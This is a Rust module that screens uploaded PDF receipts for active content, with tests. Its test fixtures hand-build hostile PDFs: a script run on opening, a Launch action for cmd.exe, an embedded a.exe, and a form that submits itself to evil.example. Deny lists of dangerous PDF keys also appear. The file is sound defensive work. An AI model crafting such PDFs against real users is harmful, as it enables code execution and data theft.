//! A PDF proof is parsed (lopdf) and refused by its structure when it can do anything but be
//! read: JavaScript, actions run on opening or on events (OpenAction, AA), launching programs,
//! embedded files, rich media, XFA forms. Names are compared after their `#xx` escapes are
//! decoded and objects packed in object streams are unpacked, so neither hides anything; the
//! bytes of compressed streams are never searched, so a photo inside a scan cannot trip the
//! check by chance.

use lopdf::{Dictionary, Document, LoadOptions, Object};

/// Decompressed data a proof may unpack to (object streams and cross-reference streams; page
/// contents are not decompressed). A 5 MB scan is far below it; a compression bomb is not.
const MAX_DECOMPRESSED: usize = 64 * 1024 * 1024;

/// Keys whose mere presence means active content.
const ACTIVE_KEYS: &[&[u8]] = &[
    b"JS",
    b"JavaScript",
    b"AA",
    b"Launch",
    b"EmbeddedFiles",
    b"EF",
    b"RichMedia",
    b"RichMediaContent",
    b"RichMediaSettings",
    b"XFA",
];

/// Action types, annotation subtypes and object types that run, launch or carry something.
const ACTIVE_NAMES: &[&[u8]] = &[
    b"JavaScript",
    b"Launch",
    b"RichMedia",
    b"RichMediaExecute",
    b"EmbeddedFile",
    b"FileAttachment",
    b"GoToE",
    b"ImportData",
    b"SubmitForm",
];

/// Why a PDF is refused, as the catalogue's key.
pub fn inspect(bytes: &[u8]) -> Result<(), &'static str> {
    // lopdf is not expected to panic on hostile input; if it ever does, the file is refused
    // as damaged rather than taking the request down.
    std::panic::catch_unwind(|| inspect_unguarded(bytes)).unwrap_or(Err("error.proof_corrupt"))
}

fn inspect_unguarded(bytes: &[u8]) -> Result<(), &'static str> {
    let options = LoadOptions {
        max_decompressed_size: Some(MAX_DECOMPRESSED),
        ..LoadOptions::default()
    };
    let doc = Document::load_mem_with_options(bytes, options).map_err(|_| "error.proof_corrupt")?;
    if doc.is_encrypted() && doc.encryption_state.is_none() {
        // Opened only with a password: nothing of it can be checked, or read by an admin.
        return Err("error.proof_pdf_locked");
    }
    // A receipt has at least one page: a file with none is damaged (or not a document).
    if doc.get_pages().is_empty() {
        return Err("error.proof_corrupt");
    }
    if is_active(&Object::Dictionary(doc.trailer.clone()), &doc) {
        return Err("error.proof_active_content");
    }
    for object in doc.objects.values() {
        if is_active(object, &doc) {
            return Err("error.proof_active_content");
        }
    }
    Ok(())
}

/// Walks one object and everything directly inside it (references are other objects, which
/// the caller walks in turn). An explicit stack: nesting cannot exhaust the thread's stack.
fn is_active(root: &Object, doc: &Document) -> bool {
    let mut stack = vec![root];
    while let Some(object) = stack.pop() {
        match object {
            Object::Name(name) if ACTIVE_NAMES.contains(&name.as_slice()) => return true,
            Object::Array(items) => stack.extend(items.iter()),
            Object::Dictionary(dict) => {
                if dict_is_active(dict, doc) {
                    return true;
                }
                stack.extend(dict.iter().map(|(_, v)| v));
            }
            // A stream's dictionary is structure; its bytes (page content, images) are data.
            Object::Stream(stream) => {
                if dict_is_active(&stream.dict, doc) {
                    return true;
                }
                stack.extend(stream.dict.iter().map(|(_, v)| v));
            }
            _ => {}
        }
    }
    false
}

fn dict_is_active(dict: &Dictionary, doc: &Document) -> bool {
    if dict
        .iter()
        .any(|(key, _)| ACTIVE_KEYS.contains(&key.as_slice()))
    {
        return true;
    }
    // A document may open on a page (a destination: harmless) or run an action on opening:
    // only a plain go-to action is let through.
    match dict.get(b"OpenAction") {
        Ok(open) => !opens_on_a_page(open, doc),
        Err(_) => false,
    }
}

fn opens_on_a_page(open: &Object, doc: &Document) -> bool {
    let resolved = match open {
        Object::Reference(id) => match doc.get_object(*id) {
            Ok(object) => object,
            Err(_) => return true,
        },
        other => other,
    };
    match resolved {
        Object::Array(_) => true,
        Object::Dictionary(action) => {
            matches!(action.get(b"S"), Ok(Object::Name(s)) if s == b"GoTo")
        }
        _ => false,
    }
}

#[cfg(test)]
pub mod tests {
    use lopdf::{dictionary, Stream, StringFormat};

    use super::*;

    /// A small, valid PDF (one page of text), as the upload tests send it.
    pub fn plain_pdf() -> Vec<u8> {
        save(&mut one_page(|_, _| {}), false)
    }

    /// A one-page document; `extra` adds to the catalog and the page before it is saved.
    fn one_page(extra: impl FnOnce(&mut Document, &mut (Dictionary, Dictionary))) -> Document {
        let mut doc = Document::with_version("1.5");
        let pages_id = doc.new_object_id();
        let font_id = doc.add_object(dictionary! {
            "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
        });
        let content = Stream::new(
            dictionary! {},
            b"BT /F1 18 Tf 40 700 Td (Recu MTN MoMo 15000 FCFA) Tj ET".to_vec(),
        );
        let content_id = doc.add_object(content);
        let page = dictionary! {
            "Type" => "Page",
            "Parent" => pages_id,
            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
            "Contents" => content_id,
            "Resources" => dictionary! { "Font" => dictionary! { "F1" => font_id } },
        };
        let catalog = dictionary! { "Type" => "Catalog", "Pages" => pages_id };
        let mut parts = (catalog, page);
        extra(&mut doc, &mut parts);
        let (catalog, page) = parts;
        let page_id = doc.add_object(page);
        doc.objects.insert(
            pages_id,
            Object::Dictionary(dictionary! {
                "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1,
            }),
        );
        let catalog_id = doc.add_object(catalog);
        doc.trailer.set("Root", catalog_id);
        doc
    }

    fn save(doc: &mut Document, object_streams: bool) -> Vec<u8> {
        let mut out = Vec::new();
        if object_streams {
            doc.save_modern(&mut out).unwrap();
        } else {
            doc.save_to(&mut out).unwrap();
        }
        out
    }

    /// Deterministic noise, as a scanner's compressed image looks to a byte search.
    fn noise(len: usize, mut seed: u64) -> Vec<u8> {
        (0..len)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                (seed >> 24) as u8
            })
            .collect()
    }

    /// A scan: the page holds an image whose raw (already compressed, DCT) bytes contain what
    /// a byte search would take for scripts, plus a Flate-compressed stream of `size` bytes.
    fn scan(size: usize, seed: u64) -> Vec<u8> {
        let mut doc = one_page(|doc, (_, page)| {
            let mut jpeg_like = noise(size / 2, seed);
            for (i, word) in [
                &b"/JS"[..],
                b"/JavaScript",
                b"/Launch",
                b"/EmbeddedFile",
                b"/AA",
                b"/OpenAction",
            ]
            .iter()
            .enumerate()
            {
                let at = (i + 1) * 997;
                jpeg_like[at..at + word.len()].copy_from_slice(word);
            }
            let image = Stream::new(
                dictionary! {
                    "Type" => "XObject", "Subtype" => "Image", "Width" => 800, "Height" => 600,
                    "ColorSpace" => "DeviceRGB", "BitsPerComponent" => 8, "Filter" => "DCTDecode",
                },
                jpeg_like,
            );
            let image_id = doc.add_object(image);
            let mut flate = Stream::new(dictionary! {}, noise(size / 2, seed ^ 0xA5A5));
            flate.compress().unwrap();
            let flate_id = doc.add_object(flate);
            page.set(
                "Resources",
                dictionary! { "XObject" => dictionary! { "Im1" => image_id, "Im2" => flate_id } },
            );
        });
        save(&mut doc, seed.is_multiple_of(2))
    }

    fn contains(haystack: &[u8], needle: &[u8]) -> bool {
        haystack.windows(needle.len()).any(|w| w == needle)
    }

    #[test]
    fn innocent_pdfs_of_every_size_pass() {
        assert_eq!(inspect(&plain_pdf()), Ok(()));
        for (size, seed) in [
            (20_000, 1),
            (300_000, 2),
            (1_000_000, 3),
            (2_500_000, 4),
            (4_800_000, 5),
        ] {
            let pdf = scan(size, seed);
            assert!(
                contains(&pdf, b"/JS"),
                "the corpus holds the bytes /JS ({size})"
            );
            assert_eq!(inspect(&pdf), Ok(()), "a {size}-byte scan passes");
        }
        // Opening on a page, a link to a web site, saved with object and xref streams.
        let mut doc = one_page(|doc, (catalog, page)| {
            let uri = doc.add_object(dictionary! {
                "Type" => "Annot", "Subtype" => "Link",
                "Rect" => vec![0.into(), 0.into(), 100.into(), 20.into()],
                "A" => dictionary! {
                    "S" => "URI",
                    "URI" => Object::String(b"https://mtn.cm".to_vec(), StringFormat::Literal),
                },
            });
            page.set("Annots", vec![uri.into()]);
            catalog.set("OpenAction", vec![Object::Null, "Fit".into()]);
        });
        assert_eq!(inspect(&save(&mut doc, true)), Ok(()));
    }

    /// A document written by hand, object by object, with a correct cross-reference table.
    pub fn handmade(objects: &[&str]) -> Vec<u8> {
        let mut out = b"%PDF-1.7\n".to_vec();
        let mut offsets = Vec::new();
        for (i, body) in objects.iter().enumerate() {
            offsets.push(out.len());
            out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
        }
        let xref = out.len();
        out.extend_from_slice(
            format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
        );
        for offset in offsets {
            out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
        }
        out.extend_from_slice(
            format!(
                "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
                objects.len() + 1
            )
            .as_bytes(),
        );
        out
    }

    const PAGES: &str = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
    const PAGE: &str = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>";

    #[test]
    fn every_kind_of_active_content_is_refused() {
        let cases: Vec<(&str, Vec<u8>)> = vec![
            (
                "JavaScript on opening",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                    PAGES,
                    PAGE,
                    "<< /S /JavaScript /JS (app.alert(1)) >>",
                ]),
            ),
            (
                "an escaped name",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
                    PAGES,
                    PAGE,
                ]),
            ),
            (
                "a document-level script in the name tree",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>",
                    PAGES,
                    PAGE,
                    "<< /Names [(x) << /S /JavaScript /JS (1) >>] >>",
                ]),
            ),
            (
                "launching a program",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
                    PAGES,
                    PAGE,
                ]),
            ),
            (
                "an action on a page event",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R >>",
                    PAGES,
                    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>",
                ]),
            ),
            (
                "an opening action that is not a go-to",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Thread /D 0 >> >>",
                    PAGES,
                    PAGE,
                ]),
            ),
            (
                "embedded files",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>",
                    PAGES,
                    PAGE,
                    "<< /Type /Filespec /F (a.exe) >>",
                ]),
            ),
            (
                "a file attachment annotation",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R >>",
                    PAGES,
                    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
                    "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>",
                ]),
            ),
            (
                "rich media",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R >>",
                    PAGES,
                    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>] >>",
                ]),
            ),
            (
                "an XFA form",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA [(template) 4 0 R] >> >>",
                    PAGES,
                    PAGE,
                    "<< >>",
                ]),
            ),
            (
                "a form that submits itself",
                handmade(&[
                    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (https://evil.example) >> >>",
                    PAGES,
                    PAGE,
                ]),
            ),
        ];
        for (what, pdf) in cases {
            assert_eq!(inspect(&pdf), Err("error.proof_active_content"), "{what}");
        }
    }

    #[test]
    fn scripts_packed_in_object_streams_are_found() {
        let mut doc = one_page(|doc, (catalog, _)| {
            let action = doc.add_object(dictionary! {
                "S" => "JavaScript",
                "JS" => Object::String(b"app.alert(1)".to_vec(), StringFormat::Literal),
            });
            catalog.set("OpenAction", action);
        });
        let pdf = save(&mut doc, true);
        assert!(
            !contains(&pdf, b"/JavaScript") && !contains(&pdf, b"/JS"),
            "the action is out of sight of a byte search, inside a compressed object stream"
        );
        assert_eq!(inspect(&pdf), Err("error.proof_active_content"));
    }

    #[test]
    fn malformed_files_are_refused_without_a_panic() {
        let mut truncated = plain_pdf();
        truncated.truncate(truncated.len() / 2);
        truncated.extend_from_slice(b"\n%%EOF\n");
        let nested = format!(
            "%PDF-1.4\n1 0 obj\n{}{}\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
            "[".repeat(100_000),
            "]".repeat(100_000)
        );
        for bad in [
            &b"%PDF-1.4\n%%EOF\n"[..],
            b"%PDF-1.4\n1 0 obj << /Type /Catalog\n%%EOF\n",
            nested.as_bytes(),
            &truncated,
            &noise(50_000, 9),
        ] {
            assert!(inspect(bad).is_err());
        }
    }
}
